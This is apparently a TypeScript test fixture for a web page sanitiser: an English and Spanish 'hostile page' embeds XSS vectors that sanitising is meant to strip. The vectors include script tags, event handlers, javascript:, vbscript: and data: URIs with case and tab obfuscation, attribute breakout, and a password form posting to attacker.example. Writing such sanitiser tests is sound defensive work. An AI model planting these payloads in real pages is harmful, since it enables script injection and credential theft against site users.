import type { PageText } from './pages-text.ts'

// Hostile markup that sanitising must remove; a running script sets `window.hostile`.
const attacks = `
<script>window.hostile = 'script'</script>
<img src="x" onerror="window.hostile = 'onerror'">
<svg onload="window.hostile = 'svg'"><circle r="9"/></svg>
<iframe src="javascript:parent.hostile='iframe'"></iframe>
<style>body { display: none }</style>
<form action="https://attacker.example/"><input name="password"><button>OK</button></form>
<a href="javascript:window.hostile='raw link'" onclick="window.hostile='onclick'">raw link</a>

[link](javascript:window.hostile='link')
[upper case](JaVaScRiPt:window.hostile='case')
[with a tab](java&#x09;script:window.hostile='tab')
[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaG9zdGlsZT0nZGF0YSc8L3NjcmlwdD4=)
[vbscript](vbscript:msgbox(1))
![image](javascript:window.hostile='image')
<javascript:window.hostile='autolink'>

[breaks out](https://foyer.example/" onmouseover="window.hostile='attribute')
`

export const hostilePage: PageText = {
  en: {
    title: 'A Page Nobody Should Trust',
    description: 'Its author tried everything. The <b>words</b> stay; the rest should not.',
    markdown: `# A page nobody should trust

This sentence is **safe** and stays.
${attacks}
The [last link](https://foyer.example/) is safe too.
`,
  },
  es: {
    title: 'Una página de la que nadie debería fiarse',
    description: 'Su autor lo intentó todo. Quedan las <b>palabras</b>; lo demás no debería.',
    markdown: `# Una página de la que nadie debería fiarse

Esta frase es **inofensiva** y se queda.
${attacks}
El [último enlace](https://foyer.example/) también es inofensivo.
`,
  },
}
